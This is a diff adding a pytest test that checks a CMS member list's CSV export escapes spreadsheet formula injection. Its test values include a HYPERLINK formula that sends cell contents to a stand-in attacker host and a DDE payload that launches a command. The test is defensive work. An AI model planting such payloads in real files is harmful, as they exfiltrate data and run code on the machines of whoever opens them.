@@ -69,6 +69,22 @@ def test_the_list_exports_as_csv(admin_client, people):
     assert "ada@example.com" in body and "bo@example.com" in body
 
 
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
+)
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(admin_client, people, name):
+    import csv
+    import io
+
+    Member.objects.filter(email="bo@example.com").update(name=name)
+    response = admin_client.get("/cms/members_admin/?export=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    by_email = {row["Email"]: row for row in rows}
+    assert by_email["bo@example.com"]["Name"] == "'" + name
+    assert by_email["ada@example.com"]["Name"] == "Ada"  # ordinary text is untouched
+
+
 def test_members_are_not_visible_to_anonymous_readers(client, people):
     assert client.get("/cms/members_admin/").status_code == 302
 
